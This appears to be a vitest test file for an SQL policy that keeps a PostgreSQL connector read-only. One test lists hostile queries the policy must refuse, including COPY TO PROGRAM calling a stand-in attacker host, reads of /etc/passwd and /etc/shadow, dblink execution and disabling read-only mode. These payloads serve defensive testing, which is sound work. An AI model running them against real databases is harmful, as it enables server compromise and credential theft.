import { describe, expect, it } from "vitest";
import { EXPERIMENT_PARAMETERS } from "./postgres.connector";
import { checkSqlPolicy, deniedFunction } from "./sql-policy";
import { prepareStatement } from "./sql-statement";

/** The policy's verdict on a query with named parameters, as the connector checks it. */
function verdict(sql: string, timeoutSeconds = 30) {
  const prepared = prepareStatement(sql, EXPERIMENT_PARAMETERS);
  if (!prepared.ok) return { problem: prepared.problem, offset: -1 };
  return checkSqlPolicy(prepared.checkText, { timeoutSeconds });
}

const READ =
  "SELECT arm, count(*) AS units FROM exposures WHERE experiment_key = :experiment AND ts <= :to GROUP BY arm";

describe("the SQL policy (PostgreSQL's parser)", () => {
  it("lets reading queries through: SELECT, WITH ... SELECT, VALUES, TABLE, set operations, casts", () => {
    for (const sql of [
      READ,
      `WITH e AS (SELECT * FROM exposures WHERE experiment_key = :experiment AND ts <= :to) SELECT arm, count(*) FROM e GROUP BY arm`,
      "VALUES ('control', 1, 0, 0)",
      "TABLE exposures",
      "(SELECT 1) UNION ALL (SELECT 2)",
      "SELECT :arms::text[], now() - interval '1 day', 'a;b' AS semicolon_in_string -- ; DROP TABLE t",
      "SELECT pg_sleep(1), 1 AS units",
    ]) {
      expect(verdict(sql), sql).toBeNull();
    }
  });

  it("refuses every write an attacker tried through the read-only transaction, before it is sent", () => {
    const refused: [string, RegExp][] = [
      ["SELECT 1; COMMIT; CREATE TABLE pwned (x int)", /more than one statement/],
      ["WITH x AS (DELETE FROM exposures RETURNING *) SELECT count(*) FROM x", /DELETE \(a data-modifying WITH\)/],
      ["WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x", /INSERT/],
      ["WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x", /UPDATE/],
      ["COPY (SELECT 1) TO PROGRAM 'curl attacker.example'", /a COPY statement was refused/],
      ["SELECT set_config('default_transaction_read_only', 'off', false)", /set_config\(\)/],
      ["SELECT pg_read_file('/etc/passwd')", /pg_read_file\(\) reads files of the server/],
      ["SELECT pg_catalog.pg_read_binary_file('/etc/shadow')", /reads files of the server/],
      ["SELECT * FROM pg_ls_dir('/')", /pg_ls_dir\(\) lists directories/],
      ["SELECT pg_stat_file('/etc/passwd')", /pg_stat_file\(\)/],
      ["SELECT pg_terminate_backend(pid) FROM pg_stat_activity", /pg_terminate_backend\(\)/],
      ["SELECT pg_cancel_backend(1)", /pg_cancel_backend/],
      ["SELECT dblink_exec('dbname=app', 'CREATE TABLE x (a int)')", /dblink_exec\(\) connects to another database/],
      ["SELECT * FROM dblink('dbname=app', 'SELECT 1') AS t(a int)", /dblink\(\)/],
      ["SELECT lo_import('/etc/passwd')", /reads or writes large objects/],
      ["SELECT pg_advisory_lock(42)", /advisory locks/],
      ["SELECT nextval('orders_id_seq')", /nextval\(\)/],
      ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", /runs SQL given as text/],
      ["SELECT * FROM exposures FOR UPDATE", /FOR UPDATE \/ FOR SHARE/],
      ["SELECT * FROM exposures FOR SHARE SKIP LOCKED", /FOR UPDATE \/ FOR SHARE/],
      ["SELECT * INTO TEMP stolen FROM exposures", /SELECT \.\.\. INTO creates a table/],
      ["EXPLAIN ANALYZE SELECT 1", /an EXPLAIN statement was refused/],
      ["SET statement_timeout = 0", /a SET statement was refused/],
      ["DO $$ BEGIN PERFORM 1; END $$", /a DO block was refused/],
      ["SELECT pg_sleep(130)", /for 130s may sleep past the statement timeout of 30s/],
      ["SELECT pg_sleep_for('5 minutes')", /with a computed or interval argument/],
      ["SELECT pg_sleep(random() * 100)", /computed/],
      ["SELECT \"PG_READ_FILE\"('x')", /PG_READ_FILE\(\)/],
      ["SELECT (SELECT pg_read_file('x')) AS nested", /pg_read_file/],
    ];
    for (const [sql, reason] of refused) {
      const found = verdict(sql);
      expect(found, sql).not.toBeNull();
      expect(found?.problem, sql).toMatch(reason);
    }
  });

  it("points at the offending call, in the user's text (named parameters keep their offsets)", () => {
    const sql =
      "SELECT arm\n  FROM t\n WHERE experiment_key = :experiment AND ts <= :to\n   AND pg_sleep(500) IS NOT NULL";
    const found = verdict(sql);
    expect(found?.offset).toBe(sql.indexOf("pg_sleep"));
    const accented = "SELECT 'café' AS é, pg_read_file('x')";
    expect(checkSqlPolicy(accented, { timeoutSeconds: 30 })?.offset).toBe(accented.indexOf("pg_read_file"));
  });

  it("reports a syntax error at the server's position", () => {
    const found = checkSqlPolicy("SELECT arm FROM", { timeoutSeconds: 30 });
    expect(found?.problem).toMatch(/PostgreSQL cannot parse the query: syntax error at end of input/);
    expect(found?.offset).toBe("SELECT arm FROM".length);
  });

  it("names the functions it denies, schema and case aside", () => {
    expect(deniedFunction("PG_LS_WALDIR")).toBe("lists directories of the server");
    expect(deniedFunction("count")).toBeNull();
    expect(deniedFunction("date_trunc")).toBeNull();
    expect(deniedFunction("lower")).toBeNull();
  });
});
